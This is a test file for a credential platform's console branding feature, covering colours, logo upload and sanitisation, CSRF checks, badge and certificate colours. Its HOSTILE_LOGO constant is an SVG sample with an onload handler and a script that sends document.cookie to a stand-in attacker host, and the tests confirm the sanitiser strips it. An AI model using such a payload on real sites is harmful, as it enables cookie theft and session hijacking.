import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { PNG } from 'pngjs';
import { Institution } from '../../src/institutions/institution-model.js';
import { findTemplateVersion, importTemplate, publishTemplate } from '../../src/templates/lifecycle.js';
import { getDocument, OPS } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { issueAndStoreCredential } from '../../src/credentials/credential-store.js';
import { findIssuer, signingIssuer } from '../../src/issuers/issuers.js';
import { installationDocumentLoader } from '../../src/issuers/resolvers.js';
import { parseEncryptionKey } from '../../src/security/encryption.js';
import { brandingForm, consoleSession } from '../helpers/console.js';
import { createTestInstitution, exampleTemplate } from '../helpers/institution.js';
import { startTool, type ToolUnderTest } from '../helpers/tool.js';

/**
 * An institution's branding (colours and logo) through the console over HTTP: a logo is checked like a badge (an
 * SVG keeps nothing that runs or calls home), a refusal names the field and changes nothing, one institution never
 * changes another's, and the badge made from the branding is drawn in its colours.
 */
const HOSTILE_LOGO = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(1)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="10" height="10" fill="#7a1f5c" />
  <image href="https://evil.example/pixel.png" width="1" height="1" />
</svg>`;

let tool: ToolUnderTest;
let admin: Awaited<ReturnType<typeof consoleSession>>;
let other: Awaited<ReturnType<typeof consoleSession>>;

let issuerId = '';

beforeAll(async () => {
  tool = await startTool();
  ({
    issuer: { _id: issuerId },
  } = await createTestInstitution(tool, { id: 'brand-u', rootDid: false }));
  await createTestInstitution(tool, { id: 'brand-v', rootDid: false });
  admin = await consoleSession(tool.url, 'brand-admin', 'brand-u');
  other = await consoleSession(tool.url, 'brand-other', 'brand-v');
}, 60_000);
afterAll(async () => {
  await tool?.close();
});

const stored = async (id: string) => (await Institution.findById(id).lean())?.branding;

describe('the institution’s branding in the console', () => {
  it('stores the colours and a sanitised logo, shows them, and removes the logo when asked', async () => {
    const page = await (await admin.get('/admin/institution')).text();
    expect(page).toContain('action="/admin/institution/branding"');
    expect(page).toContain('type="color"');
    expect(page).toContain('value="#1d4f91"'); // the default until set

    const saved = await admin.upload(
      '/admin/institution/branding',
      brandingForm(
        { color: '#7A1F5C', accent: '#22a06b' },
        { name: 'logo.svg', type: 'image/svg+xml', body: HOSTILE_LOGO },
      ),
    );
    expect(saved.status).toBe(303);
    const b = await stored('brand-u');
    expect(b).toMatchObject({ color: '#7a1f5c', accent: '#22a06b' });
    const logo = Buffer.from(b!.logo!.split(',')[1]!, 'base64').toString('utf8');
    expect(logo).toContain('<rect');
    expect(logo).not.toMatch(/script|onload|evil\.example/);
    const after = await (await admin.get('/admin/institution')).text();
    expect(after).toContain('value="#7a1f5c"');
    expect(after).toContain(`src="${b!.logo}"`);

    // The other institution is untouched, and its own save changes only its own.
    expect(await stored('brand-v')).toBeFalsy();
    expect(
      (
        await other.upload(
          '/admin/institution/branding',
          brandingForm({ color: '#000000', accent: '#ffffff' }),
        )
      ).status,
    ).toBe(303);
    expect(await stored('brand-u')).toMatchObject({ color: '#7a1f5c', logo: b!.logo });

    // Saved again without a file, the logo stays; with "remove", it goes.
    await admin.upload('/admin/institution/branding', brandingForm({ color: '#7a1f5c', accent: '#22a06b' }));
    expect((await stored('brand-u'))?.logo).toBe(b!.logo);
    await admin.upload(
      '/admin/institution/branding',
      brandingForm({ color: '#7a1f5c', accent: '#22a06b', removeLogo: '1' }),
    );
    expect((await stored('brand-u'))?.logo).toBeUndefined();
  });

  it('refuses a colour or a logo that is not one, naming the field, and keeps what was stored', async () => {
    await admin.upload('/admin/institution/branding', brandingForm({ color: '#102030', accent: '#405060' }));
    const before = await stored('brand-u');

    const badColour = await admin.upload(
      '/admin/institution/branding',
      brandingForm(
        { color: 'red', accent: '#22a06b' },
        { name: 'l.png', type: 'image/png', body: PNG.sync.write(new PNG({ width: 4, height: 4 })) },
      ),
    );
    expect(badColour.status).toBe(400);
    const text = await badColour.text();
    expect(text).toContain('color');
    expect(text).toContain('#rrggbb');

    const gif = await admin.upload(
      '/admin/institution/branding',
      brandingForm(
        { color: '#aabbcc', accent: '#22a06b' },
        { name: 'l.gif', type: 'image/gif', body: 'GIF89a' },
      ),
    );
    expect(gif.status).toBe(400);
    expect(await gif.text()).toContain('logo: the file is neither a PNG nor an SVG image');
    const huge = await admin.upload(
      '/admin/institution/branding',
      brandingForm(
        { color: '#aabbcc', accent: '#22a06b' },
        { name: 'l.png', type: 'image/png', body: Buffer.alloc(200_000) },
      ),
    );
    expect(huge.status).toBe(400);
    expect(await huge.text()).toContain('logo: File too large');
    // Without the form's CSRF token: refused, nothing written.
    const form = brandingForm({ color: '#aabbcc', accent: '#22a06b' });
    expect((await admin.upload('/admin/institution/branding', form, false)).status).toBe(403);
    expect(await stored('brand-u')).toEqual(before);
  });

  it('makes a draft’s badge from the branding: a 400-pixel PNG in its colours', async () => {
    await admin.upload('/admin/institution/branding', brandingForm({ color: '#7a1f5c', accent: '#22a06b' }));
    const draft = await importTemplate('brand-u', {
      ...exampleTemplate(),
      key: 'branded',
      badgeImage: undefined,
    });
    const path = `/admin/templates/${draft.key}/${draft.version}`;
    expect(await (await admin.get(path)).text()).toContain(`action="${path}/badge-image/generate"`);
    expect((await admin.post(`${path}/badge-image/generate`)).status).toBe(303);
    const uri = (await findTemplateVersion('brand-u', draft.key, draft.version))!.data.badgeImage!.dataUri!;
    expect(uri).toMatch(/^data:image\/png;base64,/);
    const png = PNG.sync.read(Buffer.from(uri.split(',')[1]!, 'base64'));
    expect([png.width, png.height]).toEqual([400, 400]);
    const pixel = (x: number, y: number) => {
      const i = (y * png.width + x) * 4;
      return `#${[...png.data.subarray(i, i + 3)].map((c) => c.toString(16).padStart(2, '0')).join('')}`;
    };
    expect(pixel(200, 26)).toBe('#7a1f5c'); // inside the seal, above the title
    expect(pixel(200, 12)).toBe('#22a06b'); // the outer ring
    expect(pixel(1, 1)).toBe('#000000'); // outside the badge: transparent

    // Another institution's administrator cannot reach this draft.
    expect((await other.post(`${path}/badge-image/generate`)).status).toBe(404);
    // A published template keeps its badge: refused with the reason, nothing changed.
    const published = await importTemplate('brand-u', { ...exampleTemplate(), key: 'branded-pub' });
    await publishTemplate('brand-u', published.key, published.version);
    const refused = await admin.post(
      `/admin/templates/${published.key}/${published.version}/badge-image/generate`,
    );
    expect(refused.status).toBe(400);
    expect((await findTemplateVersion('brand-u', published.key, published.version))!.data.badgeImage).toEqual(
      published.data.badgeImage,
    );
  });

  it('prints the certificate of an issued credential in those colours, with the logo and an SVG badge', async () => {
    const svg = (fill: string) =>
      `<svg width="40" height="40"><circle cx="20" cy="20" r="18" fill="${fill}"/></svg>`; // no xmlns: added
    const form = brandingForm(
      { color: '#0b6e4f', accent: '#f4a259' },
      { name: 'logo.svg', type: 'image/svg+xml', body: svg('#0000aa') },
    );
    expect((await admin.upload('/admin/institution/branding', form)).status).toBe(303);
    const badge = `data:image/svg+xml;base64,${Buffer.from(svg('#aa0000')).toString('base64')}`;
    const template = await importTemplate('brand-u', {
      ...exampleTemplate(),
      key: 'printed',
      badgeImage: { dataUri: badge },
    });
    await publishTemplate('brand-u', template.key, template.version);
    const kek = parseEncryptionKey(tool.config.KEY_ENCRYPTION_KEY!);
    const credentialId = 'printed-1';
    await issueAndStoreCredential({
      template: { ...template.data, version: template.version },
      issuer: await signingIssuer((await findIssuer(issuerId))!, kek),
      learner: { fullName: 'Ada Learner' },
      learnerRef: 'brand-lms:ada',
      evidence: { grade: '90', courseTitle: 'Course', assessedAt: new Date().toISOString() },
      credentialId,
      publicUrl: tool.url,
      documentLoader: installationDocumentLoader(tool.url),
    });
    const res = await fetch(`${tool.url}/credentials/${credentialId}/files/certificate.pdf`);
    expect(res.status).toBe(200);
    const page = await (
      await getDocument({ data: new Uint8Array(await res.arrayBuffer()) }).promise
    ).getPage(1);
    const ops = await page.getOperatorList();
    expect(ops.fnArray.filter((f) => f === OPS.paintImageXObject)).toHaveLength(3); // logo, badge, QR code
    const colours = ops.fnArray.flatMap((f, i) =>
      f === OPS.setStrokeRGBColor || f === OPS.setFillRGBColor ? [String(ops.argsArray[i]?.[0])] : [],
    );
    expect(colours).toEqual(expect.arrayContaining(['#0b6e4f', '#f4a259']));
  });
});
